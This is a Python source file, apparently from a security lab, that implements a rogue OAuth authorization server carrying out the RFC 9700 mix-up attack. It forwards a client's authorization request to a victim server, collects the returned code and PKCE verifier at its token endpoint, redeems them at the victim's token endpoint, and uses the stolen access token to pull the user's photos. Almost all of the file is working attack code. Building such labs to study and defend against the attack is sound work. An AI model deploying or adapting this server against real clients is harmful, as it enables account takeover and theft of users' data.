"""An authorization server that is an attacker's: the mix-up of RFC 9700 §4.4.1, really run.

A client that can use several servers is sent here by a person who chose this one. The visitor is
passed on to another server, the victim, with the client's own request, challenge and all; a person
who trusts the victim logs in there, and the code comes to the client. A client that does not look
who sends it brings it here, with its verifier: all that a public client needs to redeem it.
"""

import json
from typing import Any
from urllib.parse import parse_qs, urlencode

from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse, Response
from starlette.routing import Route

from netlab.lab.oauth.app import WELL_KNOWN
from netlab.lab.oauth.calling import CallFailed, call
from netlab.lab.oauth.calls import body, see, tell_of
from netlab.lab.oauth.photos import outside_of
from netlab.lab.oauth.refusal import Refused
from netlab.lab.oauth.server import shown

FORM = ((b"content-type", b"application/x-www-form-urlencoded"),)
KEPT = ("grant_type", "code", "redirect_uri", "code_verifier", "client_id")


class Rogue:
    """issuer: what it calls itself. victim: the server that it passes visitors on to. api: what it
    is after.
    """

    def __init__(self, issuer: str, victim: str, api: str) -> None:
        self.issuer = issuer
        self.victim = victim
        self.api = api

    async def metadata(self, _: Request) -> Response:
        """It promises iss, as it may: the answer comes from another, which may promise it too."""
        return JSONResponse(
            {
                "issuer": self.issuer,
                "authorization_endpoint": f"{self.issuer}/authorize",
                "token_endpoint": f"{self.issuer}/token",
                "response_types_supported": ["code"],
                "code_challenge_methods_supported": ["S256"],
                "token_endpoint_auth_methods_supported": ["none"],
                "authorization_response_iss_parameter_supported": True,
            }
        )

    async def authorize(self, request: Request) -> Response:
        """On to the victim: the client, its redirect URI, state and challenge stay as they are."""
        tell_of(request)("oauth.forwarded", to=self.victim)
        query = request.scope["query_string"].decode("latin-1")
        return see(f"{self.victim}/authorize?{query}", 302)

    async def token(self, request: Request) -> Response:
        """What the client brings is used at the victim's at once; the client gets an error."""
        tell = tell_of(request)
        try:
            given = parse_qs((await body(request)).decode("latin-1"), max_num_fields=64)
        except (Refused, ValueError):
            given = {}
        loot = {name: given[name][0] for name in KEPT if name in given}
        tell(
            "oauth.collected", client_id=loot.get("client_id", "")[:200],
            code=shown(loot.get("code", "")), verifier=shown(loot.get("code_verifier", "")),
        )  # fmt: skip
        if "code" in loot:
            await self.use(request, loot)
        return JSONResponse({"error": "server_error"}, 400, {"cache-control": "no-store"})

    async def use(self, request: Request, loot: dict[str, str]) -> None:
        """The code for a token, the token for what is the person's."""
        tell = tell_of(request)
        status, told = await self.ask(
            request, "POST", f"{self.victim}/token", FORM, urlencode(loot).encode()
        )
        token = str(told.get("access_token", ""))
        tell("oauth.stole", status=status, error=str(told.get("error", ""))[:80],
             token=shown(token))  # fmt: skip
        if token:
            bearer = ((b"authorization", f"Bearer {token}".encode()),)
            status, told = await self.ask(request, "GET", f"{self.api}/photos", bearer)
            photos = told.get("photos", [])
            tell("oauth.looted", status=status, owner=str(told.get("owner", "")),
                 photos=", ".join(map(str, photos))[:200])  # fmt: skip

    async def ask(
        self, request: Request, method: str, url: str, headers: Any, content: bytes = b""
    ) -> tuple[int, dict[str, Any]]:
        try:
            answer = await call(outside_of(request), method, url, headers, content)
            told = json.loads(answer.body)
        except (CallFailed, ValueError):
            return 0, {}
        return answer.status, told if isinstance(told, dict) else {}


def application(issuer: str, victim: str, api: str) -> Starlette:
    rogue = Rogue(issuer, victim, api)
    return Starlette(
        routes=[
            Route("/authorize", rogue.authorize),
            Route("/token", rogue.token, methods=["POST"]),
            *(Route(path, rogue.metadata) for path in WELL_KNOWN),
        ]
    )
